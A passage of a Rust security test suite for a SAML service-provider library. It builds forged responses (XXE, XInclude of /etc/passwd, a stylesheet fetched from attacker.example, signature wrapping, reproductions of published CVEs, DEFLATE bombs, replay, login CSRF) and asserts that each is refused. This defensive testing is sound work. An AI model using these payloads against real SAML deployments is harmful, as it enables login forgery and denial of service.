            |b| b.assertion_signed().replacen(ALICE, "&xxe;", 1),
            refused(&[DtdForbidden, MalformedXml]),
        ),
        Case::new(
            "encoding declared as UTF-7",
            "XML 1.0 section 4.3.3 (encoding declarations); UTF-7 smuggling past text filters; DESIGN.md invariant 3 (UTF-8 only)",
            |b| {
                format!(
                    r#"<?xml version="1.0" encoding="UTF-7"?>{}"#,
                    b.assertion_signed()
                )
            },
            refused(&[UnsupportedEncoding]),
        ),
        // Nothing is processed or fetched: an xml-stylesheet PI in the
        // prolog and an XInclude in an unsigned part change nothing.
        Case::new(
            "xml-stylesheet processing instruction in the prolog",
            XXE,
            |b| {
                format!(
                    r#"<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>{}"#,
                    b.assertion_signed()
                )
            },
            Want::Accepted(ALICE),
        ),
        Case::new(
            "XInclude in an unsigned Extensions element",
            XXE,
            |b| {
                insert_before_first(
                    &b.assertion_signed(),
                    "<samlp:Status>",
                    r#"<samlp:Extensions><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></samlp:Extensions>"#,
                )
            },
            Want::Accepted(ALICE),
        ),
        Case::new(
            "XInclude replacing the NameID text",
            XXE,
            |b| {
                b.assertion_signed().replacen(
                    &format!("{ALICE}</saml:NameID>"),
                    r#"<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname" parse="text"/></saml:NameID>"#,
                    1,
                )
            },
            refused(&[DigestMismatch, MalformedXml]),
        ),
    ]
}

family!(
    dtd_xxe,
    dtd_xxe_and_entities_by_the_library,
    dtd_xxe_and_entities_by_the_layer
);

// ====================================================================
// Huge values inside a response
// ====================================================================

fn huge_values() -> Vec<Case> {
    let src = "OWASP XML Security Cheat Sheet (resource exhaustion), https://cheatsheetseries.owasp.org/cheatsheets/XML_Security_Cheat_Sheet.html; ruby-saml CVE-2025-25293 (compressed message DoS)";
    vec![
        Case::new(
            "a 600 KB SignatureValue",
            src,
            |b| {
                set_text(
                    &b.assertion_signed(),
                    "SignatureValue",
                    &"QUFB".repeat(150_000),
                )
            },
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "a 600 KB DigestValue",
            src,
            |b| {
                set_text(
                    &b.assertion_signed(),
                    "DigestValue",
                    &"QUFB".repeat(150_000),
                )
            },
            refused(&[DigestMismatch]),
        ),
        Case::new(
            "a 600 KB X509Certificate of garbage (KeyInfo only selects)",
            src,
            |b| {
                let r = b.assertion_signed();
                let old = between(&r, "<ds:X509Certificate>", "</ds:X509Certificate>").to_owned();
                r.replacen(&old, &"QUFB".repeat(150_000), 1)
            },
            Want::Accepted(ALICE),
        ),
        Case::new(
            "a document over 1 MiB",
            src,
            |b| {
                insert_before_first(
                    &b.assertion_signed(),
                    "<samlp:Status>",
                    &format!(
                        "<samlp:Extensions>{}</samlp:Extensions>",
                        "x".repeat(1_100_000)
                    ),
                )
            },
            refused(&[InputTooLarge]),
        ),
        Case::new(
            "nesting deeper than 64",
            src,
            |b| {
                insert_before_first(
                    &b.assertion_signed(),
                    "<samlp:Status>",
                    &format!(
                        "<samlp:Extensions>{}{}</samlp:Extensions>",
                        "<a>".repeat(100),
                        "</a>".repeat(100)
                    ),
                )
            },
            refused(&[InputTooLarge]),
        ),
        Case::new(
            "more than 100,000 nodes",
            src,
            |b| {
                insert_before_first(
                    &b.assertion_signed(),
                    "<samlp:Status>",
                    &format!(
                        "<samlp:Extensions>{}</samlp:Extensions>",
                        "<a/>".repeat(110_000)
                    ),
                )
            },
            refused(&[InputTooLarge]),
        ),
        Case::new(
            "more than 256 attributes on one element",
            src,
            |b| {
                let attrs: String = (0..300).map(|i| format!(r#" a{i}="x""#)).collect();
                insert_before_first(
                    &b.assertion_signed(),
                    "<samlp:Status>",
                    &format!("<samlp:Extensions><a{attrs}/></samlp:Extensions>"),
                )
            },
            refused(&[InputTooLarge]),
        ),
    ]
}

family!(
    huge_values,
    huge_values_are_bounded_by_the_library,
    huge_values_are_bounded_by_the_layer
);

// ====================================================================
// Published CVEs of other SAML libraries, as cases
// ====================================================================

fn published_cves() -> Vec<Case> {
    vec![
        // ruby-saml CVE-2024-45409: the DigestValue was found with a
        // document-wide XPath, so a DigestValue planted elsewhere (for the
        // attacker's content) was the one compared.
        Case::new(
            "ruby-saml CVE-2024-45409: a DigestValue for the evil content planted in Extensions",
            "ruby-saml CVE-2024-45409 (GHSA-jw9c-mfg7-9rx2), https://github.com/SAML-Toolkits/ruby-saml/security/advisories/GHSA-jw9c-mfg7-9rx2",
            |b| {
                insert_before_first(
                    &xsw_evil_signed(b),
                    "<samlp:Status>",
                    &format!(
                        r#"<samlp:Extensions><ds:DigestValue xmlns:ds="{DS_NS}">{}</ds:DigestValue></samlp:Extensions>"#,
                        evil_digest(b)
                    ),
                )
            },
            refused(&[DigestMismatch]),
        ),
        Case::new(
            "ruby-saml CVE-2024-45409: a whole forged Reference planted in the assertion",
            "ruby-saml CVE-2024-45409 (GHSA-jw9c-mfg7-9rx2)",
            |b| {
                let r = xsw_evil_signed(b);
                let reference = element(&r, "<ds:Reference", "</ds:Reference>").to_owned();
                let forged = set_text(&reference, "DigestValue", &evil_digest(b))
                    .replacen("<ds:Reference ", &format!(r#"<ds:Reference xmlns:ds="{DS_NS}" "#), 1);
                insert_after_first(&r, &format!(r#"ID="{}" Version="2.0""#, b.aid), "")
                    .replacen("<saml:Subject>", &format!("<saml:Advice>{forged}</saml:Advice><saml:Subject>"), 1)
            },
            refused(&[DigestMismatch]),
        ),
        Case::new(
            "ruby-saml CVE-2025-25291: DOCTYPE hiding content from one parser",
            "ruby-saml CVE-2025-25291 (GHSA-4vc4-m8qh-g8jm), https://github.blog/security/sign-in-as-anyone-bypassing-saml-sso-authentication-with-parser-differentials/",
            |b| {
                format!(
                    r#"<!DOCTYPE x [ <!ENTITY a "<!-- x -->"> ]>{}"#,
                    b.response(&format!("{}{}", b.evil, b.signed_assertion))
                )
            },
            refused(&[DtdForbidden]),
        ),
        Case::new(
            "ruby-saml CVE-2025-25292 / CVE-2025-66567: a Signature whose ds prefix is declared twice",
            "ruby-saml CVE-2025-25292 (GHSA-754f-8gm6-c4r2) and CVE-2025-66567 (GHSA-9v8j-x534-2fx3)",
            |b| {
                b.response(&b.evil_with_signature().replacen(
                    &format!(r#"<ds:Signature xmlns:ds="{DS_NS}""#),
                    &format!(r#"<ds:Signature xmlns:ds="{DS_NS}" xmlns:ds="urn:evil""#),
                    1,
                ))
            },
            refused(&[MalformedXml]),
        ),
        // xml-crypto CVE-2025-29775: the DigestValue was read as the first
        // child node's data, so a comment carrying the forger's digest won
        // while C14N (no comments) kept the genuine one under the signature.
        Case::new(
            "xml-crypto CVE-2025-29775: the forger's digest in a comment in DigestValue",
            "xml-crypto CVE-2025-29775 (GHSA-9p8x-f768-wp2g), https://github.com/node-saml/xml-crypto/security/advisories/GHSA-9p8x-f768-wp2g",
            |b| {
                let g = genuine_digest(b);
                set_text(&xsw_evil_signed(b), "DigestValue", &format!("<!--{}-->{g}", evil_digest(b)))
            },
            refused(&[DigestMismatch]),
        ),
        Case::new(
            "xml-crypto CVE-2025-29775: the genuine digest split by a comment (genuine content)",
            "xml-crypto CVE-2025-29775 (GHSA-9p8x-f768-wp2g)",
            |b| {
                let g = genuine_digest(b);
                let (x, y) = g.split_at(10);
                set_text(&b.assertion_signed(), "DigestValue", &format!("{x}<!-- x -->{y}"))
            },
            Want::Accepted(ALICE),
        ),
        Case::new(
            "xml-crypto CVE-2025-29774: two SignedInfo elements",
            "xml-crypto CVE-2025-29774 (GHSA-x3m8-899r-f7c3), https://github.com/node-saml/xml-crypto/security/advisories/GHSA-x3m8-899r-f7c3",
            |b| {
                let r = xsw_evil_signed(b);
                let genuine = element(&r, "<ds:SignedInfo", "</ds:SignedInfo>").to_owned();
                let forged = set_text(&genuine, "DigestValue", &evil_digest(b));
                replace1(&r, &genuine, &format!("{forged}{genuine}"))
            },
            refused(&[SignatureInvalid]),
        ),
        // node-saml CVE-2025-54369 and CVE-2025-54419: the assertion was
        // read from the unsigned document while the signature check passed on
        // another (validly signed) element of the IdP.
        Case::new(
            "node-saml CVE-2025-54369: a genuinely signed Response nested in an unsigned one around the evil assertion",
            "node-saml CVE-2025-54369 (GHSA-m837-g268-mmv7), https://github.com/node-saml/node-saml/security/advisories/GHSA-m837-g268-mmv7",
            |b| {
                insert_before_first(
                    &b.response(&b.evil),
                    "<samlp:Status>",
                    &format!("<samlp:Extensions>{}</samlp:Extensions>", b.both_signed()),
                )
            },
            refused(WRAPPING),
        ),
        Case::new(
            "node-saml CVE-2025-54419: the signed assertion verified, an unsigned evil one read",
            "node-saml CVE-2025-54419 (GHSA-4mxg-3p6v-xgq3), https://github.com/node-saml/node-saml/security/advisories/GHSA-4mxg-3p6v-xgq3",
            |b| b.response(&format!("{}{}", b.signed_assertion, b.evil_with_id("_evil"))),
            refused(&[AmbiguousAssertion]),
        ),
        // crewjam/saml CVE-2022-41912: only the first assertion's signature
        // was checked when there were several.
        Case::new(
            "crewjam/saml CVE-2022-41912: signed assertion then an unsigned one",
            "crewjam/saml CVE-2022-41912 (GHSA-j2jp-wvqg-wc2g), https://github.com/crewjam/saml/security/advisories/GHSA-j2jp-wvqg-wc2g",
            |b| b.response(&format!("{}{}", b.signed_assertion, b.evil_with_id("_evil2"))),
            refused(&[AmbiguousAssertion]),
        ),
        Case::new(
            "crewjam/saml CVE-2022-41912: signed Response, two assertions inside",
            "crewjam/saml CVE-2022-41912 (GHSA-j2jp-wvqg-wc2g)",
            |b| {
                let two = format!("{}{}", b.assertion, b.evil_with_id("_evil2"));
                b.idp_sign(&b.response(&two), &b.rid)
            },
            refused(&[AmbiguousAssertion]),
        ),
        // crewjam/saml CVE-2020-27846 (via goxmldsig and Go's encoding/xml
        // round trip): markup that changes meaning when re-serialized.
        Case::new(
            "crewjam/saml CVE-2020-27846: colon-laden names that do not round-trip",
            "crewjam/saml CVE-2020-27846 (GHSA-4hq8-gmxx-h6w9); Go CVE-2020-29509/29510/29511, https://mattermost.com/blog/coordinated-disclosure-go-xml-vulnerabilities/",
            |b| {
                b.response(&b.signed_assertion.replacen(
                    "<saml:Subject>",
                    "<saml:Subject><:x:Assertion/>",
                    1,
                ))
            },
            refused(&[MalformedXml]),
        ),
        // Spring Security SAML CVE-2020-5407: signature wrapping.
        Case::new(
            "Spring Security SAML CVE-2020-5407: evil assertion inside the signed Response",
            "Spring Security CVE-2020-5407, https://tanzu.vmware.com/security/cve-2020-5407",
            |b| {
                replace1(
                    &b.response_signed(),
                    "<samlp:Status>",
                    &format!("{}<samlp:Status>", b.evil_with_id("_evil")),
                )
            },
            refused(&[DigestMismatch, AmbiguousAssertion]),
        ),
        // GitHub Enterprise Server CVE-2024-4985 (encrypted assertions): a
        // forged response with an unsigned encrypted assertion.
        Case::new(
            "GitHub Enterprise CVE-2024-4985: unsigned Response, unsigned encrypted assertion",
            "GitHub Enterprise Server CVE-2024-4985, https://nvd.nist.gov/vuln/detail/CVE-2024-4985",
            |b| b.response(&encrypted(&b.evil)),
            refused(&[SignatureMissing]),
        ),
        // GitHub Enterprise Server CVE-2024-9487 (encrypted assertions plus
        // a signed IdP document) and CVE-2024-6800 (signed federation
        // metadata): any document the IdP signed, used to forge a response.
        Case::new(
            "GitHub Enterprise CVE-2024-9487: IdP-signed metadata beside an encrypted evil assertion",
            "GitHub Enterprise Server CVE-2024-9487, https://nvd.nist.gov/vuln/detail/CVE-2024-9487",
            |b| {
                insert_before_first(
                    &b.response(&encrypted(&b.evil)),
                    "<samlp:Status>",
                    &format!("<samlp:Extensions>{}</samlp:Extensions>", signed_metadata(b)),
                )
            },
            refused(&[SignatureInvalid, SignatureMissing]),
        ),
        Case::new(
            "GitHub Enterprise CVE-2024-6800: IdP-signed metadata posted as the Response",
            "GitHub Enterprise Server CVE-2024-6800, https://nvd.nist.gov/vuln/detail/CVE-2024-6800",
            signed_metadata,
            refused(&[MalformedXml]),
        )
        // The layer first looks for the Response's Issuer to pick the IdP.
        .layer(refused(&[IssuerMismatch, MalformedXml])),
        Case::new(
            "GitHub Enterprise CVE-2024-6800: the metadata's signature copied into the evil assertion",
            "GitHub Enterprise Server CVE-2024-6800; samlify CVE-2025-47949 (GHSA-r683-v43c-6xqv)",
            |b| {
                let md = signed_metadata(b);
                let sig = signature_of(&md).to_owned();
                b.response(&insert_after_first(&b.evil, "</saml:Issuer>", &sig))
            },
            refused(&[ReferenceMismatch]),
        ),
        Case::new(
            "passport-saml CVE-2022-39299: an IdP-signed LogoutResponse carrying an evil assertion",
            "passport-saml CVE-2022-39299 (GHSA-m974-647v-whv7), https://github.com/node-saml/passport-saml/security/advisories/GHSA-m974-647v-whv7",
            |b| {
                let lr = signed_logout_response(b);
                replace1(&lr, "</samlp:LogoutResponse>", &format!("{}</samlp:LogoutResponse>", b.evil))
            },
            refused(&[MalformedXml]),
        )
        // The layer sees no InResponseTo on it and stops there.
        .layer(refused(&[UnsolicitedResponse, MalformedXml])),
        Case::new(
            "passport-saml CVE-2022-39299: an IdP-signed LogoutResponse nested in a forged Response",
            "passport-saml CVE-2022-39299 (GHSA-m974-647v-whv7)",
            |b| {
                insert_before_first(
                    &b.response(&b.evil),
                    "<samlp:Status>",
                    &format!("<samlp:Extensions>{}</samlp:Extensions>", signed_logout_response(b)),
                )
            },
            refused(&[SignatureInvalid, SignatureMissing]),
        ),
        // python3-saml CVE-2016-1000252 and pysaml2 CVE-2020-5390: the
        // signature was verified, but the subject was found anywhere.
        Case::new(
            "python3-saml CVE-2016-1000252: an evil Subject outside the signed assertion",
            "python3-saml CVE-2016-1000252, https://nvd.nist.gov/vuln/detail/CVE-2016-1000252",
            |b| {
                insert_before_first(
                    &b.assertion_signed(),
                    "<samlp:Status>",
                    &format!(
                        r#"<samlp:Extensions><saml:Subject><saml:NameID>{ADMIN}</saml:NameID></saml:Subject></samlp:Extensions>"#
                    ),
                )
            },
            Want::Accepted(ALICE),
        ),
        Case::new(
            "pysaml2 CVE-2020-5390: a detached (not enveloped) signature beside the evil assertion",
            "pysaml2 CVE-2020-5390 (PYSEC-2020-94), https://github.com/IdentityPython/pysaml2/releases/tag/v5.0.0",
            |b| {
                let sig = signature_of(&b.signed_assertion).to_owned();
                b.response(&format!("{}{sig}", b.evil))
            },
            refused(&[SignatureInvalid, ReferenceMismatch, SignatureMissing]),
        ),
        Case::new(
            "pysaml2 CVE-2021-21238: the evil assertion inside the signed assertion's Advice",
            "pysaml2 CVE-2021-21238 (PYSEC-2021-48, no schema validation), https://github.com/IdentityPython/pysaml2/security/advisories/GHSA-f4g9-h89h-jgv9",
            |b| {
                b.response(&replace1(
                    &b.signed_assertion,
                    "<saml:Subject>",
                    &format!("<saml:Advice>{}</saml:Advice><saml:Subject>", b.evil_with_id("_evil")),
                ))
            },
            refused(&[AmbiguousAssertion, DigestMismatch]),
        ),
        // samael (Rust): no published advisory in the sources searched
        // (RustSec, GitHub advisories). Its design verifies with xmlsec and
        // then reads a reduced copy of the document; the risk is reading an
        // element that is not the verified one. Nearest case: a verified
        // Response whose assertion the attacker swaps.
        Case::new(
            "samael (no advisory; nearest): signed Response with its assertion swapped",
            "samael design note (verify, then read a reduced document), https://github.com/njaremko/samael; nearest known class: Somorovsky et al. 2012",
            |b| {
                let signed = b.response_signed();
                let a = element(&signed, "<saml:Assertion", "</saml:Assertion>").to_owned();
                replace1(&signed, &a, &b.evil)
            },
            refused(&[DigestMismatch]),
        ),
        // Shibboleth / OpenSAML: XMLTooling CVE-2018-0489 (comments in
        // values; covered in the comment family) and CVE-2023-36661 (KeyInfo
        // SSRF; covered in certificate faking). The SP's
        // Dynamic metadata advisories (CVE-2017-16852/16853) concern
        // unsigned remote metadata, tested in saml-remote.
        Case::new(
            "Shibboleth XMLTooling CVE-2018-0489: comment truncating an attribute value",
            "Shibboleth SP security advisory 2018-02-27, CVE-2018-0489, https://shibboleth.net/community/advisories/secadv_20180227.txt",
            |b| cut(&b.assertion_signed(), "<!-- -->"),
            Want::Accepted(REGISTERED),
        )
        .subject(REGISTERED),
    ]
}

family!(
    published_cves,
    published_cves_of_other_libraries_by_the_library,
    published_cves_of_other_libraries_by_the_layer
);

// ====================================================================
// InResponseTo abuse (library and layer)
// ====================================================================

fn in_response_to() -> Vec<Case> {
    let src = "SAML 2.0 Profiles section 4.1.4.3 (InResponseTo must match the request); login CSRF and response swapping";
    vec![
        Case::new(
            "the Response claims another request",
            src,
            |b| {
                let irt = b.ctx.request_id.clone().unwrap();
                replace1(
                    &b.assertion_signed(),
                    &format!(r#"Destination="{}" InResponseTo="{irt}""#, b.ctx.acs),
                    &format!(
                        r#"Destination="{}" InResponseTo="_another-request""#,
                        b.ctx.acs
                    ),
                )
            },
            refused(&[InResponseToMismatch]),
        ),
        Case::new(
            "the signed confirmation answers another request",
            src,
            |b| {
                let mut ctx = b.ctx.clone();
                ctx.request_id = Some("_another-request".into());
                let a = assertion_xml_for(&ctx, &b.aid);
                let signed = b.idp_sign(&a, &b.aid);
                b.response(&signed)
            },
            refused(&[InResponseToMismatch]),
        ),
        Case::new(
            "a solicited assertion with the Response's InResponseTo removed",
            src,
            |b| {
                let irt = b.ctx.request_id.clone().unwrap();
                b.assertion_signed()
                    .replacen(&format!(r#" InResponseTo="{irt}">"#), ">", 1)
            },
            // The library still has the pending request to compare the signed
            // confirmation with; the layer, without a Response InResponseTo,
            // treats it as unsolicited, which this provider does not allow.
            Want::Accepted(ALICE),
        )
        .layer(refused(&[UnsolicitedResponse])),
        Case::new(
            "an unsolicited response (no InResponseTo anywhere)",
            src,
            |b| {
                let mut ctx = b.ctx.clone();
                ctx.request_id = None;
                let a = assertion_xml_for(&ctx, &b.aid);
                kit::response_xml(&ctx, &b.rid, &b.idp_sign(&a, &b.aid))
            },
            refused(&[InResponseToMismatch, UnsolicitedResponse]),
        ),
        Case::new(
            "a 10 KB InResponseTo with control characters",
            src,
            |b| {
                let irt = b.ctx.request_id.clone().unwrap();
                let long = format!("_x{}&#10;&#13;", "A".repeat(10_000));
                b.assertion_signed().replacen(
                    &format!(r#"InResponseTo="{irt}">"#),
                    &format!(r#"InResponseTo="{long}">"#),
                    1,
                )
            },
            refused(&[InResponseToMismatch]),
        ),
    ]
}

fn assertion_xml_for(ctx: &Ctx, id: &str) -> String {
    kit::assertion_xml(ctx, id, ALICE)
}

family!(
    in_response_to,
    in_response_to_abuse_by_the_library,
    in_response_to_abuse_by_the_layer
);

// ====================================================================
// Genuine assertions used where they do not belong
// ====================================================================

fn misdirected() -> Vec<Case> {
    let src = "SAML 2.0 Profiles section 4.1.4.3 (Recipient, Audience, Destination) and 4.1.4.2; SAML 2.0 Security Considerations section 7.1.1.7 (assertions stolen from another SP)";
    vec![
        Case::new(
            "an assertion the IdP signed for another SP",
            src,
            |b| {
                let mut ctx = b.ctx.clone();
                ctx.sp = "https://other-sp.example/metadata".into();
                ctx.acs = "https://other-sp.example/acs".into();
                let a = assertion_xml_for(&ctx, &b.aid);
                b.response(&b.idp_sign(&a, &b.aid))
            },
            refused(&[ErrorCode::RecipientMismatch, ErrorCode::AudienceMismatch]),
        ),
        Case::new(
            "an assertion for our entity ID but another ACS (Recipient)",
            src,
            |b| {
                let mut ctx = b.ctx.clone();
                ctx.acs = "https://other-sp.example/acs".into();
                let a = assertion_xml_for(&ctx, &b.aid);
                b.response(&b.idp_sign(&a, &b.aid))
            },
            refused(&[ErrorCode::RecipientMismatch]),
        ),
        Case::new(
            "a signed Response addressed to another ACS (Destination)",
            src,
            |b| {
                let r = b.response(&b.assertion).replacen(
                    &format!(r#"Destination="{}""#, b.ctx.acs),
                    r#"Destination="https://other-sp.example/acs""#,
                    1,
                );
                b.idp_sign(&r, &b.rid)
            },
            refused(&[ErrorCode::DestinationMismatch]),
        ),
        Case::new(
            "an assertion naming another IdP as Issuer, signed with this IdP's key",
            src,
            |b| {
                let a = b.assertion.replacen(
                    &format!("<saml:Issuer>{}</saml:Issuer>", b.ctx.idp),
                    "<saml:Issuer>https://other-idp.example/metadata</saml:Issuer>",
                    1,
                );
                b.response(&b.idp_sign(&a, &b.aid))
            },
            refused(&[IssuerMismatch]),
        ),
        Case::new(
            "a failure status around a valid assertion",
            src,
            |b| {
                b.assertion_signed().replacen(
                    "urn:oasis:names:tc:SAML:2.0:status:Success",
                    "urn:oasis:names:tc:SAML:2.0:status:Responder",
                    1,
                )
            },
            refused(&[ErrorCode::StatusNotSuccess]),
        ),
        Case::new(
            "an assertion issued an hour ago",
            src,
            |b| {
                let mut ctx = b.ctx.clone();
                ctx.now -= Duration::hours(1);
                let a = assertion_xml_for(&ctx, &b.aid);
                b.response(&b.idp_sign(&a, &b.aid))
            },
            refused(&[ErrorCode::Expired]),
        ),
    ]
}

family!(
    misdirected,
    misdirected_assertions_are_refused_by_the_library,
    misdirected_assertions_are_refused_by_the_layer
);

// ====================================================================
// Bindings: DEFLATE bombs and huge base64
// ====================================================================

/// A DEFLATE bomb: `mib` MiB of one byte compress about a thousandfold.
fn bomb(mib: usize) -> String {
    encode_redirect(&"A".repeat(mib << 20))
}

#[test]
fn deflate_bombs_on_the_redirect_binding_stop_at_the_limit() {
    // Source: ruby-saml CVE-2025-25293 (compressed message DoS,
    // GHSA-92rq-c8cf-prrq); the classic zip bomb.
    let limits = Limits::default();
    let value = bomb(64);
    assert!(value.len() < 200_000, "{}", value.len());
    let err = decode_redirect(&value, &limits).unwrap_err();
    assert_eq!(err.code(), InputTooLarge, "{err}");

    // zlib-wrapped (some senders add the header), same cap.
    let zlib = miniz_oxide::deflate::compress_to_vec_zlib(&vec![b'<'; 16 << 20], 6);
    let err = decode_redirect(&kit::b64_bytes(&zlib), &limits).unwrap_err();
    assert_eq!(err.code(), InputTooLarge, "{err}");

    // Just over the limit is refused, at the limit decodes.
    let at = "a".repeat(limits.max_xml_bytes);
    assert_eq!(
        decode_redirect(&encode_redirect(&at), &limits)
            .unwrap()
            .len(),
        at.len()
    );
    let over = format!("{at}a");
    assert_eq!(
        decode_redirect(&encode_redirect(&over), &limits)
            .unwrap_err()
            .code(),
        InputTooLarge
    );
}

#[test]
fn huge_base64_on_the_post_binding_is_refused_before_decoding() {
    // Source: OWASP XML Security Cheat Sheet (resource exhaustion).
    let limits = Limits::default();
    let huge = "QUFB".repeat(400_000); // 1.6 MB of base64, 1.2 MB decoded
    assert_eq!(
        decode_post(&huge, &limits).unwrap_err().code(),
        InputTooLarge
    );
    // Whitespace padding cannot smuggle it under the cap.
    let padded = format!("QUFB{}", " ".repeat(3_000_000));
    assert_eq!(
        decode_post(&padded, &limits).unwrap_err().code(),
        InputTooLarge
    );
}

#[test]
fn bombs_and_huge_base64_through_the_layer_are_4xx() {
    rt().block_on(async {
        let node = Node::new(|_| {});
        // 16 MiB inflated, 22 KB on the wire (a URL must stay under 64 KB).
        let bomb = percent(&bomb(16));
        for uri in [
            format!("/saml/slo?SAMLRequest={bomb}"),
            format!("/saml/slo?SAMLResponse={bomb}"),
            format!("/saml/slo?SAMLRequest={bomb}&RelayState=x&SigAlg=x&Signature=x"),
        ] {
            let reply = Browser::default().get(&node, &uri).await;
            assert_eq!(reply.status, StatusCode::PAYLOAD_TOO_LARGE, "{reply:?}");
            assert_eq!(reply.code(), Some("input_too_large"));
        }
        // 1.6 MB of base64 (under the 2 MiB form cap, over the 1 MiB
        // message cap) posted to the ACS and to the SLO endpoint.
        let huge = form_body(&[("SAMLResponse", &"QUFB".repeat(400_000))]);
        for uri in ["/saml/acs", "/saml/slo"] {
            let reply = Browser::default().post_form(&node, uri, huge.clone()).await;
            assert_eq!(
                reply.status,
                StatusCode::PAYLOAD_TOO_LARGE,
                "{uri}: {reply:?}"
            );
            assert_eq!(reply.code(), Some("input_too_large"));
        }
        // A UTF-16 message.
        let utf16: Vec<u8> = "\u{feff}<samlp:Response/>"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        let body = form_body(&[("SAMLResponse", &kit::b64_bytes(&utf16))]);
        let reply = Browser::default().post_form(&node, "/saml/acs", body).await;
        assert_eq!(reply.code(), Some("unsupported_encoding"), "{reply:?}");
        assert_eq!(node.calls(), 0);
    });
}

// ====================================================================
// Replay, within one node and across two nodes sharing a store
// ====================================================================

/// Two nodes behind a load balancer: one store, one clock.
fn two_nodes(allow_idp_initiated: bool) -> (Node, Node) {
    let store = MemoryStore::new();
    let clock = TestClock::new();
    let a = Node::build(
        store.clone(),
        clock.clone(),
        |s| s.allow_idp_initiated = allow_idp_initiated,
        |b| b,
    );
    let b = Node::build(
        store,
        clock,
        |s| s.allow_idp_initiated = allow_idp_initiated,
        |b| b,
    );
    (a, b)
}

#[test]
fn replayed_responses_are_refused_on_the_same_and_on_another_node() {
    // Source: SAML 2.0 Profiles section 4.1.4.5 (one-time use of bearer
    // assertions); DESIGN.md invariant 6.
    rt().block_on(async {
        for signer in SIGNERS {
            let (a, b) = two_nodes(false);
            // Control: a login started on node A may finish on node B.
            let mut browser = Browser::default();
            let req = browser.begin_login(&a, "").await;
            let xml = Base::new(&a.ctx(Some(req)), signer).assertion_signed();
            let first = browser.post_response(&b, &xml, None).await;
            assert_eq!(first.status, StatusCode::SEE_OTHER, "{first:?}");
            assert_eq!(browser.whoami(&a).await.as_deref(), Some(ALICE));

            // The same response again: on B (where it was used), on A.
            for node in [&b, &a] {
                let mut replayer = Browser::default();
                replayer.begin_login(node, "").await;
                let reply = replayer.post_response(node, &xml, None).await;
                assert!(
                    ["in_response_to_mismatch", "replayed"].contains(&reply.code().unwrap()),
                    "{reply:?}"
                );
                assert!(!reply.sets_session());
                assert_eq!(replayer.whoami(node).await, None);
            }
        }
    });
}

#[test]
fn replayed_unsolicited_responses_are_refused_across_nodes() {
    rt().block_on(async {
        for signer in SIGNERS {
            let (a, b) = two_nodes(true);
            let base = Base::new(&a.ctx(None), signer);
            let xml = base.assertion_signed();
            let reply = Browser::default().post_response(&a, &xml, None).await;
            assert_eq!(reply.status, StatusCode::SEE_OTHER, "{reply:?}");

            let reply = Browser::default().post_response(&b, &xml, None).await;
            assert_eq!(reply.code(), Some("replayed"), "{reply:?}");
            // The same signed assertion re-wrapped in a fresh Response.
            let rewrapped = kit::response_xml(&base.ctx, &fresh_id("r"), &base.signed_assertion);
            let reply = Browser::default().post_response(&b, &rewrapped, None).await;
            assert_eq!(reply.code(), Some("replayed"), "{reply:?}");
            // Still refused four minutes later (the assertion lives five).
            a.clock.advance(Duration::minutes(4));
            let mut late = Browser::default();
            let reply = late.post_response(&a, &xml, None).await;
            assert_eq!(reply.code(), Some("replayed"), "{reply:?}");
            assert_eq!(late.whoami(&a).await, None);
        }
    });
}

// ====================================================================
// Login CSRF, session fixation, RelayState and open redirects
// ====================================================================

#[test]
fn a_response_posted_from_another_browser_is_login_csrf() {
    // Source: Barth, Jackson, Mitchell, Robust Defenses for Cross-Site
    // Request Forgery, CCS 2008 (login CSRF); SAML 2.0 Profiles section
    // 4.1.4.3.
    rt().block_on(async {
        let node = Node::new(|_| {});
        // The attacker makes the victim's browser post the answer to a login
        // the attacker started: first a victim with no login of their own,
        // then one with a login in progress.
        for victim_has_pending in [false, true] {
            let mut attacker = Browser::default();
            let req = attacker.begin_login(&node, "").await;
            let xml = Base::new(&node.ctx(Some(req)), Signer::Xmlsec).assertion_signed();
            let mut victim = Browser::default();
            if victim_has_pending {
                victim.begin_login(&node, "").await;
            }
            let reply = victim.post_response(&node, &xml, None).await;
            assert_eq!(reply.status, StatusCode::FORBIDDEN, "{reply:?}");
            assert_eq!(reply.code(), Some("in_response_to_mismatch"));
            assert!(!reply.sets_session());
            assert_eq!(victim.whoami(&node).await, None);
        }
    });
}

#[test]
fn a_response_swapped_into_the_victims_pending_login_is_refused() {
    // The victim's browser (binding cookie and pending request B) is made to
    // post the attacker's genuine response for request A, with the Response's
    // InResponseTo rewritten to B: the signed confirmation still says A.
    rt().block_on(async {
        let node = Node::new(|_| {});
        let mut attacker = Browser::default();
        let a = attacker.begin_login(&node, "").await;
        let mut victim = Browser::default();
        let b = victim.begin_login(&node, "").await;
        let xml = Base::new(&node.ctx(Some(a.clone())), Signer::Ours)
            .assertion_signed()
            .replacen(
                &format!(r#"InResponseTo="{a}">"#),
                &format!(r#"InResponseTo="{b}">"#),
                1,
            );
        let reply = victim.post_response(&node, &xml, None).await;
        assert_eq!(reply.code(), Some("in_response_to_mismatch"), "{reply:?}");
        assert_eq!(victim.whoami(&node).await, None);
    });
}

#[test]
fn session_fixation_a_planted_session_cookie_is_never_adopted() {
    // Source: OWASP Session Fixation, https://owasp.org/www-community/attacks/Session_fixation
    rt().block_on(async {
        let node = Node::new(|_| {});
        // The attacker signs in and plants their own (valid) session id in
        // the victim's browser, or an id of their choosing.
        let mut attacker = Browser::default();
        let req = attacker.begin_login(&node, "").await;
        let xml = Base::new(&node.ctx(Some(req)), Signer::Ours).assertion_signed();
        attacker.post_response(&node, &xml, None).await;
        let attackers_id = attacker.cookie("saml_session").unwrap().to_owned();
        for planted in [attackers_id.as_str(), "attacker-chosen-value"] {
            let mut victim = Browser::default();
            victim.set_cookie("saml_session", planted, "/");
            let req = victim.begin_login(&node, "").await;
            let xml = Base::new(&node.ctx(Some(req)), Signer::Xmlsec).assertion_signed();
            let reply = victim.post_response(&node, &xml, None).await;
            assert_eq!(reply.status, StatusCode::SEE_OTHER, "{reply:?}");
            let fresh = victim.cookie("saml_session").unwrap();
            assert_ne!(fresh, planted);
            assert!(fresh.len() >= 22, "{fresh}");
        }
        // The planted id that was the attacker's own session ended with the
        // victim's login in that browser: it authenticates no one now.
        let mut old = Browser::default();
        old.set_cookie("saml_session", &attackers_id, "/");
        assert_eq!(old.whoami(&node).await, None);
